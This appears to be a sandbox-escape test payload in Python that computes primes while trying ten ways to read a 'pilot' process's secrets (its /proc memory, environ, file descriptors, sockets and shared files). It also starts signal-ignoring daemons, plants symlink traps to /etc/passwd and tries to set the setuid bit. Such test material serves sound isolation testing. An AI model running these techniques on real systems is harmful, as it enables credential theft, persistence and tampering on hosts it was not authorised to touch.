"""A payload that does its work and then everything a payload should not. A program of its own; what it could take it keeps in ./loot.

payload.py MARK   MARK: a word that no other process of this machine has; daemons and files left behind carry it.
"""

import json
import os
import re
import signal
import socket
import subprocess
import sys
from pathlib import Path

SECRET = re.compile(rb"DEMO-SECRET-[a-z]+-[0-9a-f]{32}|-----BEGIN [A-Z ]*PRIVATE KEY-----[^-]*")
DAEMON = "import os, signal, sys, time; [signal.signal(s, signal.SIG_IGN) for s in (1, 2, 15)]; time.sleep(600)"


def primes(limit):
    """How many primes there are below limit, by the sieve of Eratosthenes."""
    sieve = bytearray([1]) * limit
    sieve[:2] = b"\0\0"
    for n in range(2, int(limit**0.5) + 1):
        if sieve[n]:
            sieve[n * n :: n] = bytes(len(range(n * n, limit, n)))
    return sum(sieve)


# ---- ways to the pilot's secrets: each returns the bytes that it could get ----


def proxy(to):
    return Path(to["proxy"]).read_bytes()


def proxy_by_proc(to):
    return Path(f"/proc/{to['pid']}/root{to['proxy']}").read_bytes()


def environment(to):
    return b"".join(attempt(Path(f"/proc/{pid}/environ").read_bytes) for pid in others()) + repr(dict(os.environ)).encode()


def memory(to):
    maps = Path(f"/proc/{to['pid']}/maps").read_text().splitlines()
    areas = [[int(end, 16) for end in line.split()[0].split("-")] for line in maps if line.split()[1].startswith("rw")]
    with open(f"/proc/{to['pid']}/mem", "rb", 0) as mem:
        parts = [attempt(os.pread, mem.fileno(), min(end - start, 1 << 26), start) for start, end in areas]
    return b"".join(secret for part in parts for secret in SECRET.findall(part))


def temporary(to):
    return Path(to["tmp"]).read_bytes()


def shared_memory(to):
    return Path(to["shm"]).read_bytes()


def descriptor(to):
    return os.pread(to["fd"], 1000, 0)


def descriptor_of_pilot(to):
    return Path(f"/proc/{to['pid']}/fd/{to['fd']}").read_bytes()


def loopback(to):
    return receive(socket.AF_INET, tuple(to["loopback"]))


def abstract_socket(to):
    return receive(socket.AF_UNIX, to["abstract"])


WAYS = (proxy, proxy_by_proc, environment, memory, temporary, shared_memory, descriptor, descriptor_of_pilot, loopback, abstract_socket)


def others():
    return [int(name) for name in os.listdir("/proc") if name.isdigit() and int(name) not in (os.getpid(), 1)]


def receive(family, address):
    with socket.socket(family) as peer:
        peer.settimeout(2)
        peer.connect(address)
        return peer.recv(1000)


def attempt(way, *args):
    try:
        return way(*args)
    except OSError:
        return b""


# ---- what it leaves behind ----


def daemon(mark):
    """A process in a session of its own, reparented, that heeds no signal that can be ignored."""
    if os.fork() == 0:
        os.setsid()
        subprocess.Popen([sys.executable, "-I", "-c", DAEMON, mark], stdin=-3, stdout=-3, stderr=-3)
        os._exit(0)
    os.wait()


def litter(to, mark):
    """Files outside the work directory, and traps inside it for whoever collects the outputs."""
    for place in ("/tmp", "/var/tmp", "/dev/shm", os.environ.get("HOME", "/")):
        attempt(Path(place, mark).write_text, "left behind")
    os.symlink(to["proxy"], "result.log")
    os.symlink("../../../../../../etc/passwd", "summary.txt")
    os.symlink("../pilot/setup.json", "inputs.json")
    os.mkfifo("output.fifo")
    return attempt(lambda: os.chmod("payload.py", 0o4755) or b"yes") == b"yes"


def signal_pilot(to):
    return attempt(lambda: os.kill(to["pid"], signal.SIGUSR1) or b"yes") == b"yes"


def main(mark):
    to = json.loads(Path("targets.json").read_text())
    count = primes(5_000_000)
    Path("result.json").write_text(json.dumps({"primes_below_5000000": count}))
    print(f"computed: {count} primes below 5,000,000")
    print(f"I am: uid {os.getuid()} gid {os.getgid()} pid {os.getpid()}, home {os.environ.get('HOME')}; processes I see: {len(others()) + 2}")
    os.mkdir("loot")
    got = []
    for way in WAYS:
        found = SECRET.findall(attempt(way, to))
        Path("loot", way.__name__).write_bytes(b"\n".join(found))
        got += [way.__name__.replace("_", " ")] * bool(found)
    for _ in range(3):
        daemon(mark)
    setuid = litter(to, mark)
    print(f"ways to the pilot's secrets: {len(WAYS)} tried, {len(got)} worked{': ' if got else ''}{', '.join(got)}")
    signalled = "sent" if signal_pilot(to) else "no such process"
    print(f"signal to the pilot: {signalled}; setuid bit: {'set' if setuid else 'refused'}; started 3 daemons")


main(sys.argv[1])
